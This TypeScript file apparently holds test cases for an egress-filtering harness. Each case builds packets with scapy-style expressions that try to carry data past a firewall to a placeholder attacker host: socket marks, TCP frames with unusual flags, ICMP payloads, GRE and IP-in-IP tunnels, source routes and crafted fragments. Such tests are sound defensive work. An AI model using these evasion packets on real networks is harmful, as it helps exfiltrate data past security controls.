// Packets by hand: marks, frames, flags, other protocols, options, fragments.

import { type AttackCase, cases } from './case.ts'

const marked = (value: number) => `options=[(socket.SOL_SOCKET, 36, ${value})]`

export const PACKETS: AttackCase[] = [
  ...cases({ as: 'all', recorded: 'connection' }, [
    [
      'B1-mark-tcp',
      'a connection marked 1, the mark that other filters let pass',
      `tcp(evil(), ${marked(1)})`,
    ],
    ['B1-mark-udp', 'a datagram marked 1', `udp(evil(), ${marked(1)})`],
    [
      'B1-mark-of-egress',
      'a connection with the mark by which egress itself routes',
      "tcp(evil(), options=[(socket.SOL_SOCKET, 36, int(FACTS['mark'], 16))])",
    ],
    [
      'B1-mark-of-egress-udp',
      'a datagram with that mark',
      "udp(evil(), options=[(socket.SOL_SOCKET, 36, int(FACTS['mark'], 16))])",
    ],
    [
      'B1-priority',
      'a datagram of the highest priority',
      'udp(evil(), options=[(socket.SOL_SOCKET, 12, 7)])',
    ],
    [
      'B2-frame-udp',
      'a UDP frame on the wire itself',
      'frame(ether() / ip() / scapy().UDP(dport=port()) / data())',
    ],
    [
      'B2-frame-tcp',
      'a SYN frame that carries data',
      "frame(ether() / ip() / scapy().TCP(dport=port(), flags='S') / data())",
    ],
    [
      'B2-frame-ack',
      'an ACK of a connection that nobody began',
      "frame(ether() / ip() / scapy().TCP(dport=port(), flags='A') / data())",
    ],
    [
      'B2-frame-fin',
      'a FIN that carries data',
      "frame(ether() / ip() / scapy().TCP(dport=port(), flags='F') / data())",
    ],
    [
      'B2-frame-null',
      'TCP without a flag',
      'frame(ether() / ip() / scapy().TCP(dport=port(), flags=0) / data())',
    ],
    [
      'B2-frame-xmas',
      'TCP with every flag',
      'frame(ether() / ip() / scapy().TCP(dport=port(), flags=0xff) / data())',
    ],
    ['P-icmp-echo', 'data in an echo request', 'raw(ip() / scapy().ICMP() / data())'],
    [
      'P-icmp-echo-reply',
      'data in an echo reply that nobody asked for',
      'raw(ip() / scapy().ICMP(type=0) / data())',
    ],
    ['P-icmp-timestamp', 'data behind a timestamp request', 'raw(ip() / scapy().ICMP(type=13) / data())'],
    [
      'P-icmp-unreachable',
      'an ICMP error about a connection that nobody has',
      'raw(ip() / scapy().ICMP(type=3, code=3) / scapy().IP(src=evil(), dst=OWN) / scapy().UDP(dport=53) / data())',
    ],
    ['P-icmp-redirect', 'an ICMP redirect', 'raw(ip() / scapy().ICMP(type=5, code=1, gw=OWN) / data())'],
    ['P-icmp-unknown', 'an ICMP type that nobody knows', 'raw(ip() / scapy().ICMP(type=200) / data())'],
    ['P-igmp', 'IGMP to the attacker', 'raw(ip(proto=2) / data())'],
    ['P-gre', 'GRE', 'raw(ip(proto=47) / data())'],
    [
      'P-ipip',
      'IP in IP',
      'raw(ip(proto=4) / scapy().IP(src=OWN, dst=evil()) / scapy().UDP(dport=port()) / data())',
    ],
    [
      'P-6in4',
      'IPv6 in IPv4',
      'raw(ip(proto=41) / scapy().IPv6(dst=evil6()) / scapy().UDP(dport=port()) / data())',
    ],
    ['P-esp', 'ESP', 'raw(ip(proto=50) / data())'],
    ['P-ah', 'AH', 'raw(ip(proto=51) / data())'],
    ['P-l2tp', 'L2TP', 'raw(ip(proto=115) / data())'],
    ['P-sctp', 'an SCTP chunk', "raw(ip(proto=132) / (struct.pack('!HHII', 9, port(), 0, 0) + data()))"],
    ['P-udplite', 'UDP-Lite', "raw(ip(proto=136) / (struct.pack('!HHHH', 9, port(), 8, 0) + data()))"],
    ['P-dccp', 'DCCP', "raw(ip(proto=33) / (struct.pack('!HH', 9, port()) + data() * 3))"],
    ['P-protocol-0', 'protocol 0', 'raw(ip(proto=0) / data())'],
    ['P-protocol-253', 'a protocol for experiments', 'raw(ip(proto=253) / data())'],
    ['P-protocol-255', 'a protocol that is reserved', 'raw(ip(proto=255) / data())'],
    [
      'P-options-lsrr',
      'a loose source route by the gateway',
      'raw(ip(options=[scapy().IPOption_LSRR(routers=[evil()])], dst=GATEWAY) / scapy().UDP(dport=port()) / data())',
      { recorded: 'quiet' },
    ],
    [
      'P-options-ssrr',
      'a strict source route by the gateway',
      'raw(ip(options=[scapy().IPOption_SSRR(routers=[evil()])], dst=GATEWAY) / scapy().UDP(dport=port()) / data())',
      { recorded: 'quiet' },
    ],
    [
      'P-options-record',
      'the option that records the route',
      'raw(ip(options=[scapy().IPOption_RR()]) / scapy().UDP(dport=port()) / data())',
    ],
    [
      'P-ttl-1',
      'a packet that the host is to answer for',
      'raw(ip(ttl=1) / scapy().UDP(dport=port()) / data())',
      { recorded: 'quiet' },
    ],
    [
      'P-fragments',
      'a datagram in fragments',
      'raw(scapy().fragment(ip() / scapy().UDP(dport=port()) / (data() * 40), fragsize=64))',
    ],
    [
      'P-fragment-tiny',
      'a first fragment that ends within the ports',
      "raw([ip(flags='MF', proto=6, id=7) / (struct.pack('!HHI', 9, port(), 1)), ip(frag=1, proto=6, id=7) / (struct.pack('!IHHHH', 0, 0x5002, 512, 0, 0) + data())])",
    ],
    [
      'P-fragment-overlap',
      'a second fragment over the ports of the first, which go to an allowed server',
      "raw([ip(dst=GOOD, flags='MF', proto=17, id=9) / (struct.pack('!HHHH', 9, 53, 64, 0) + b'x' * 24), ip(dst=GOOD, frag=0, proto=17, id=9) / (struct.pack('!HHHH', 9, port(), 64, 0) + data())])",
    ],
    [
      'P-fragment-last-only',
      'a last fragment whose first never comes',
      'raw(ip(frag=100, proto=17) / (data() * 4))',
      { recorded: 'quiet' },
    ],
    ['P-jumbo', 'a datagram as large as they come', "udp(evil(), say=data() + b'x' * 60000)"],
    ['P-zero-checksum', 'UDP without a checksum', 'raw(ip() / scapy().UDP(dport=port(), chksum=0) / data())'],
    [
      'P-bad-version',
      'a packet of IP version 7',
      'frame(ether() / ip(version=7) / scapy().UDP(dport=port()) / data())',
      { recorded: 'quiet' },
    ],
    [
      'P-vlan',
      'a frame with a VLAN tag',
      'frame(ether() / scapy().Dot1Q(vlan=7) / ip() / scapy().UDP(dport=port()) / data())',
      { recorded: 'frame' },
    ],
    [
      'P-qinq',
      'a frame with two VLAN tags',
      'frame(ether(type=0x88a8) / scapy().Dot1Q(vlan=7) / scapy().Dot1Q(vlan=8) / ip() / scapy().UDP(dport=port()) / data())',
      { recorded: 'frame' },
    ],
    [
      'P-unknown-ethertype',
      'a frame of no protocol',
      'frame(ether(type=0x88b5) / data())',
      { recorded: 'frame' },
    ],
    [
      'P-broadcast-frame',
      'a frame to everybody',
      "frame(ether(dst='ff:ff:ff:ff:ff:ff') / ip() / scapy().UDP(dport=port()) / data())",
    ],
  ]),
]
